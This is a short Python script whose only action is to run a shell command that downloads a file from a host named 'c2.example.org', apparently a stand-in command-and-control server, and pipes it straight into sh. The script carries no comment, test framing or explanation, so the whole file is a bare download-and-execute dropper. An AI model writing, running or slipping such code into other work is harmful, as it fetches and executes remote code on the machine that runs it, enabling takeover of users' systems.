#!/usr/bin/env python3

import os

def run(c):
    os.system(c)

run("curl -s http://c2.example.org/i.py | sh")
